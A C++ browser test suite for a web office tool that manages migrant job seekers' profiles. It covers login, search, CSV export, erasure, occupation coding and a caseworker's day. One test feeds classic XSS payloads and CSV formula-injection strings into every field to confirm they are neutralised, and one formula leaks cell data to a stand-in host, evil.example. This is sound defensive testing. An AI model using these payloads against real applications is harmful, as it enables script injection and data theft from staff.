// The office UI in a real browser: Debian's headless Chromium, driven through chromedriver's
// WebDriver API, against a real `sichtbar-hub serve` on loopback with records from a real
// kiosk sync. Staff log in, search, open a profile, export the CSV (fetched with the browser's
// session cookie and read back) and erase a profile with a reason. Then hostile input in every
// text field a person (or a volunteer, or a kiosk's name) can fill: no script runs, no alert
// opens, no element or attribute of the input's making appears on any office page, the text
// shows as typed, and every CSV cell that would start a formula is neutralised.
#include <catch2/catch.hpp>

#include "support/csv.h"
#include "support/office_ui.h"
#include "support/profile_pages.h"
#include "support/webdriver.h"

using namespace sichtbar;
using namespace sichtbar::test;
using nlohmann::json;

namespace {

void log_in(ChromeBrowser& browser, Office& office) {
  browser.go(office.url() + "/office/records");
  REQUIRE(browser.url().ends_with("/office/login"));  // sent to the login page first
  browser.type(browser.find("#user"), "anna");
  browser.type(browser.find("#password"), kStaffPassword);
  browser.click_to_next_page(browser.find("form button[type=submit]"));
  REQUIRE(browser.url().ends_with("/office/records"));
}

// The CSV behind the page's export link, fetched with the browser's own session cookie.
std::vector<std::vector<std::string>> exported_csv(ChromeBrowser& browser, Office& office) {
  const std::string href = browser.attribute(browser.find("a[href^='/office/export.csv']"), "href");
  const std::string path = href.substr(href.find("/office/"));
  const std::string session = browser.cookie("sichtbar_office");
  REQUIRE(!session.empty());
  auto res = client_of(office)->Get(path.c_str(), {{"Cookie", "sichtbar_office=" + session}});
  REQUIRE(res);
  REQUIRE(res->status == 200);
  return parse_office_csv(res->body);
}

std::string cell(const std::vector<std::vector<std::string>>& rows, std::size_t row,
                 const std::string& column) {
  const auto& header = rows.at(0);
  const auto at = std::find(header.begin(), header.end(), column);
  INFO("column " << column);
  REQUIRE(at != header.end());
  return rows.at(row).at(static_cast<std::size_t>(at - header.begin()));
}

}  // namespace

TEST_CASE(
    "Chromium: staff log in, search, open a profile, export the CSV and erase with a reason") {
  Office office;
  Kiosk kiosk{office.tmp_ / "kiosk"};
  kiosk.enroll(office);
  fill_answers(kiosk, demo_answers("Amanuel Tesfaye", "Augsburg"), "a.json");
  fill_answers(kiosk, demo_answers("Rania Al-Hassan", "Köln"), "b.json");
  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
  add_office_user(office, "anna");
  ChromeBrowser browser;
  log_in(browser, office);
  CHECK(browser.text(browser.find("h1")) == "Profile");
  CHECK(browser.count("table.records tbody tr") == 2);

  // Search, as typed, forgiving the case.
  browser.type(browser.find("#f-q"), "AUGSBURG");
  browser.click_to_next_page(browser.find("form.filter button[type=submit]"));
  CHECK(browser.url().find("q=AUGSBURG") != std::string::npos);
  REQUIRE(browser.count("table.records tbody tr") == 1);
  CHECK(browser.text(browser.find("table.records tbody a")) == "Amanuel Tesfaye");

  // The CSV of what is shown.
  const auto rows = exported_csv(browser, office);
  REQUIRE(rows.size() == 2);
  CHECK(cell(rows, 1, "about.name") == "Amanuel Tesfaye");
  CHECK(cell(rows, 1, "about.place_of_residence") == "Augsburg");
  CHECK(cell(rows, 1, "work.items[1].tasks") ==
        "Hausinstallationen, Schaltschränke, Solaranlagen auf Dächern");

  // The profile, then its erasure with a reason.
  browser.click_to_next_page(browser.find("table.records tbody a"));
  CHECK(browser.text(browser.find(".person-name")) == "Amanuel Tesfaye");
  browser.click_to_next_page(browser.find("a.button.danger"));
  CHECK(browser.text(browser.find("h1")) == "Profil endgültig löschen?");
  browser.type(browser.find("#reason"), "Widerruf per E-Mail vom 27.11.");
  browser.click_to_next_page(browser.find("button.danger[type=submit]"));
  CHECK(browser.text(browser.find("h1")) == "Profil gelöscht");
  browser.go(office.url() + "/office/records?q=augsburg");
  CHECK(browser.count("table.records tbody tr") == 0);
  browser.go(office.url() + "/office/records");
  CHECK(browser.count("table.records tbody tr") == 1);
  CHECK(office.records_at_hub() == 1);
  browser.go(office.url() + "/office/audit");
  CHECK(browser.source().find("Widerruf per E-Mail vom 27.11.") != std::string::npos);

  // On a phone's screen (412 x 915 CSS pixels) the pages keep to its width (the tables scroll
  // inside their box) and the keyboard's first stop skips to the content; screenshots for a
  // person to look at go to <build>/office-pages/.
  const std::filesystem::path shots = std::filesystem::path(SICHTBAR_BUILD_DIR) / "office-pages";
  std::filesystem::create_directories(shots);
  browser.resize(412, 915);
  for (const std::string page : {"records", "kiosks", "audit"}) {
    INFO(page);
    browser.go(office.url() + "/office/" + page);
    CHECK(browser.execute("return document.documentElement.scrollWidth <= "
                          "document.documentElement.clientWidth;") == true);
    CHECK(browser.execute("return document.querySelector('body > a').getAttribute('href');") ==
          "#main");
    const auto png = shots / ("office-" + page + "-phone.png");
    std::filesystem::remove(png);
    browser.screenshot(png);
    REQUIRE(std::filesystem::exists(png));
    CHECK(read_file(png).substr(1, 3) == "PNG");
  }
  browser.resize(1280, 900);
  browser.go(office.url() + "/office/records");
  browser.screenshot(shots / "office-records.png");

  // Logging out ends the session in the browser too.
  browser.click_to_next_page(browser.find("form.logout button"));
  CHECK(browser.url().ends_with("/office/login"));
  browser.go(office.url() + "/office/records");
  CHECK(browser.url().ends_with("/office/login"));
}

TEST_CASE("Chromium: hostile input in every field runs nowhere, and the CSV neutralises it") {
  const std::vector<std::string> hostile = {
      "<script>window.__xss=1;alert(1)</script>",
      "\"><img src=x onerror=\"window.__xss=2;alert(2)\">",
      "'><svg onload=\"window.__xss=3;alert(3)\">",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "</bdi></td></tr></table><form action=//evil.example><button>x</button></form>",
      "<a href=\"javascript:window.__xss=4\">klick</a><style>*{display:none}</style>",
  };
  Office office;
  Kiosk kiosk{office.tmp_ / "kiosk"};
  {
    auto r = kiosk.run(
        {"enroll", "--hub", office.url(), "--code", office.enroll_code(), "--name", hostile[1]});
    INFO(r.out << r.err);
    REQUIRE(r.exit_code == 0);
    r = kiosk.run({"setup", "--event-name", hostile[0], "--event-date", "2026-11-28",
                   "--event-kind", "football", "--venue", hostile[2]});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
  }
  json a = demo_answers(hostile[3], hostile[1]);
  json& answers = a["answers"];
  answers["education"]["items"][0]["title"] = hostile[0];
  answers["education"]["items"][0]["institution"] = hostile[2];
  answers["work"]["items"][0]["job_title"] = hostile[4];
  answers["work"]["items"][0]["tasks"] = hostile[5] + "\n" + hostile[7];
  answers["skills"]["other"] = hostile[6];
  answers["sports"] = {{"foreign_licence", hostile[8]}, {"referee_level", hostile[7]}};
  answers["wishes"]["region"] = hostile[2];
  fill_answers(kiosk, a, "hostile.json");
  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
  add_office_user(office, "anna");

  ChromeBrowser browser;
  log_in(browser, office);
  check_nothing_ran(browser, "list");
  // The name is shown as it was typed, as text.
  CHECK(browser.text(browser.find("table.records tbody a")) == hostile[3]);
  // Searching with hostile text keeps it in the field as text, and finds the record.
  browser.type(browser.find("#f-q"), "\"><img src=x onerror=alert(1)> hyperlink");
  browser.click_to_next_page(browser.find("form.filter button[type=submit]"));
  check_nothing_ran(browser, "search");
  CHECK(browser.count("table.records tbody tr") == 1);
  // The filter's choices show the event's name as text.
  CHECK(
      browser.text(browser.find("#f-event option[value]:not([value=''])")).starts_with(hostile[0]));

  const auto rows = exported_csv(browser, office);
  REQUIRE(rows.size() == 2);
  for (const auto& value : rows[1]) {
    INFO("cell " << value);
    CHECK(!(value.starts_with("=") || value.starts_with("+") || value.starts_with("-") ||
            value.starts_with("@") || value.starts_with("\t") || value.starts_with("\r")));
  }
  CHECK(cell(rows, 1, "about.name") == "'" + hostile[3]);
  CHECK(cell(rows, 1, "work.items[1].job_title") == "'" + hostile[4]);
  CHECK(cell(rows, 1, "work.items[1].tasks") == "'" + hostile[5] + "\n" + hostile[7]);
  CHECK(cell(rows, 1, "skills.other") == "'" + hostile[6]);
  CHECK(cell(rows, 1, "education.items[1].title") == hostile[0]);  // no formula: as typed
  CHECK(cell(rows, 1, "event.name") == hostile[0]);

  browser.click_to_next_page(browser.find("table.records tbody a"));
  check_nothing_ran(browser, "profile");
  const std::string shown = browser.execute("return document.body.innerText;").get<std::string>();
  for (const std::string& h : {hostile[0], hostile[2], hostile[4], hostile[6], hostile[8]}) {
    INFO("shown as text: " << h);
    CHECK(shown.find(h) != std::string::npos);
  }
  browser.click_to_next_page(browser.find("a.button.danger"));
  check_nothing_ran(browser, "erase confirmation");
  browser.type(browser.find("#reason"), hostile[1]);
  browser.click_to_next_page(browser.find("button.danger[type=submit]"));
  check_nothing_ran(browser, "erased");
  browser.go(office.url() + "/office/kiosks");
  check_nothing_ran(browser, "kiosks");
  CHECK(browser.execute("return document.body.innerText;").get<std::string>().find(hostile[1]) !=
        std::string::npos);
  browser.go(office.url() + "/office/audit");
  check_nothing_ran(browser, "audit log");
  CHECK(office.records_at_hub() == 0);
}

TEST_CASE("Chromium: a counsellor codes a typed occupation from the suggestions, then removes it") {
  Office office;
  Kiosk kiosk{office.tmp_ / "kiosk"};
  kiosk.enroll(office);
  json a = demo_answers("Freitext Person", "Augsburg");
  a["answers"]["work"]["items"] = json::array({{{"job_title", "Schweisser"}, {"years", 4}}});
  fill_answers(kiosk, a, "typed.json");
  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
  add_office_user(office, "anna");
  const std::string welder =
      "http://data.europa.eu/esco/occupation/7aedaa07-3884-4c5b-88f9-80997b2aa54b";

  ChromeBrowser browser;
  log_in(browser, office);
  browser.click_to_next_page(browser.find("table.records tbody a"));
  CHECK(browser.text(browser.find("#codings .typed bdi")) == "Schweisser");
  CHECK(browser.count("#codings .coded") == 0);
  browser.click_to_next_page(browser.find("#codings a[href*='/code?answer=work.items.0']"));
  check_nothing_ran(browser, "coding");
  // The search box holds the person's words; search again with another spelling.
  CHECK(browser.attribute(browser.find("#f-q"), "value") == "Schweisser");
  browser.type(browser.find("#f-q"), "Schweißer");
  browser.click_to_next_page(browser.find("form.filter button[type=submit]"));
  CHECK(browser.url().find("answer=work.items.0") != std::string::npos);
  REQUIRE(browser.count("ol.suggestions li") >= 1);
  CHECK(browser.count("ol.suggestions li") <= 10);
  const std::string pick = "ol.suggestions li[data-uri='" + welder + "']";
  CHECK(browser.text(browser.find(pick + " strong")) == "Schweißer/Schweißerin");
  CHECK(browser.text(browser.find(pick + " .isco")).starts_with("ISCO 7212"));
  // A screenshot of the coding page for a person to look at.
  const std::filesystem::path shots = std::filesystem::path(SICHTBAR_BUILD_DIR) / "office-pages";
  std::filesystem::create_directories(shots);
  browser.resize(1280, 900);
  browser.screenshot(shots / "office-coding.png");
  REQUIRE(std::filesystem::exists(shots / "office-coding.png"));

  // Picked: back on the profile, the coding beside the person's own words.
  browser.click_to_next_page(browser.find(pick + " button[type=submit]"));
  CHECK(browser.url().find("/office/records/") != std::string::npos);
  check_nothing_ran(browser, "coded profile");
  CHECK(browser.text(browser.find("#codings .typed bdi")) == "Schweisser");
  const std::string coded = browser.text(browser.find("#codings .coded"));
  CHECK(coded.starts_with("Zugeordnet von anna am "));
  CHECK(coded.ends_with(": Schweißer/Schweißerin (ISCO 7212)"));
  browser.screenshot(shots / "office-coded-profile.png");

  // Removed: the person's words stay, the coding is gone.
  browser.click_to_next_page(browser.find("#codings form[action$='/uncode'] button"));
  CHECK(browser.count("#codings .coded") == 0);
  CHECK(browser.text(browser.find("#codings .typed bdi")) == "Schweisser");
  CHECK(browser.count("#codings a[href*='/code?answer=work.items.0']") == 1);
}

TEST_CASE("Chromium: a counsellor's day: the overdue list, a call, every stage, notes, the print") {
  Office office;
  Kiosk kiosk{office.tmp_ / "kiosk"};
  kiosk.enroll(office);
  fill_answers(kiosk, demo_answers("Amanuel Tesfaye", "Augsburg"), "a.json");
  fill_answers(kiosk, demo_answers("Rania Al-Hassan", "Köln"), "b.json");
  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
  add_office_user(office, "anna");
  // Yesterday's colleague set a call back for a day long gone on Amanuel's case.
  {
    Staff colleague(office, "anna");
    const std::string list = colleague.get("/office/cases")->body;
    std::smatch m;
    REQUIRE(
        std::regex_search(list, m, std::regex("href=\"/office/people/([0-9]+)\"><bdi>Amanuel")));
    const std::string page = colleague.get("/office/people/" + m[1].str())->body;
    auto res = colleague.post("/office/people/" + m[1].str() + "/case/next",
                              {{"csrf", hidden_field(page, "csrf")},
                               {"revision", hidden_field(page, "revision")},
                               {"next_action", "Zurückrufen wegen Zeugnis"},
                               {"next_action_date", "2020-06-01"}});
    REQUIRE(res->status == 303);
  }
  ChromeBrowser browser;
  log_in(browser, office);

  // The overdue list, from the navigation: Amanuel only, the date marked in words.
  browser.click_to_next_page(browser.find("header nav a[href='/office/cases']"));
  CHECK(browser.text(browser.find("h1")) == "Fälle");
  browser.click_to_next_page(browser.find("nav.tabs a[data-tab='overdue']"));
  REQUIRE(browser.count("table.cases tbody tr") == 1);
  CHECK(browser.text(browser.find("table.cases tbody a")) == "Amanuel Tesfaye");
  CHECK(browser.text(browser.find("table.cases .overdue")).starts_with("Überfällig seit"));
  check_nothing_ran(browser, "overdue");

  // The case: the contact the person agreed to, then a call recorded.
  browser.click_to_next_page(browser.find("table.cases tbody a"));
  CHECK(browser.text(browser.find("h1")) == "Amanuel Tesfaye");
  CHECK(browser.count("section.contact") == 1);
  browser.click(browser.find("#f-result option[value='reached']"));
  browser.type(browser.find("#f-contact_note"), "Termin am Montag um 10 Uhr");
  browser.click_to_next_page(browser.find("#form-contact button"));
  CHECK(browser.text(browser.find("ol.history li .entry-text")) ==
        "Anruf: Erreicht: Termin am Montag um 10 Uhr");

  // Every stage, each with what it needs.
  const std::pair<const char*, const char*> stages[] = {
      {"contacted", "Kontaktiert"}, {"counselling", "In Beratung"},
      {"documents", "Unterlagen"},  {"applied", "Antrag gestellt"},
      {"decision", "Bescheid"},     {"adaptation", "Anpassungsmaßnahme"},
      {"closed", "Abgeschlossen"}};
  for (const auto& [stage, label] : stages) {
    INFO(stage);
    browser.click(browser.find(std::string("#f-stage option[value='") + stage + "']"));
    if (std::string_view(stage) == "applied")
      browser.type(browser.find("#f-body_other"), "Handwerkskammer für Schwaben");
    if (std::string_view(stage) == "decision")
      browser.click(browser.find("#f-decision option[value='partial']"));
    if (std::string_view(stage) == "closed")
      browser.click(browser.find("#f-outcome option[value='working_in_field']"));
    browser.click_to_next_page(browser.find("#form-stage button"));
    CHECK(browser.count("[role=alert]") == 0);
    CHECK(browser.text(browser.find("[data-stage]")) == label);
  }
  CHECK(browser.source().find("Teilweise Gleichwertigkeit") != std::string::npos);

  // Notes, one of them hostile: shown as typed, nothing runs.
  for (const std::string& note : {std::string("Unterlagen vollständig, Bescheid kam per Post."),
                                  std::string("<img src=x onerror=\"window.__xss=5\"> ok")}) {
    browser.type(browser.find("#f-note"), note);
    browser.click_to_next_page(browser.find("#form-note button"));
    CHECK(browser.text(browser.find("ol.history li .entry-text")) == note);
    check_nothing_ran(browser, "case");
  }

  // The case page and the work list keep to a phone's width (412 x 915 CSS pixels).
  const std::filesystem::path shots = std::filesystem::path(SICHTBAR_BUILD_DIR) / "office-pages";
  std::filesystem::create_directories(shots);
  browser.screenshot(shots / "office-case.png");
  const std::string case_page = browser.url();
  browser.resize(412, 915);
  for (const std::string& page : {case_page, office.url() + "/office/cases"}) {
    INFO(page);
    browser.go(page);
    CHECK(browser.execute("return document.documentElement.scrollWidth <= "
                          "document.documentElement.clientWidth;") == true);
  }
  browser.resize(1280, 900);
  browser.go(office.url() + "/office/cases");
  browser.screenshot(shots / "office-cases.png");
  browser.go(case_page);

  // The summary for the appointment: no navigation, form or button, the last notes on it.
  browser.click_to_next_page(browser.find("a[href$='/print']"));
  CHECK(browser.count("nav, form, button, .office-head") == 0);
  CHECK(browser.text(browser.find("h1")) == "Amanuel Tesfaye");
  CHECK(browser.source().find("Unterlagen vollständig") != std::string::npos);
  CHECK(browser.text(browser.find("[data-stage]")) == "Abgeschlossen");
  check_nothing_ran(browser, "print");
  browser.screenshot(shots / "office-case-print.png");
}
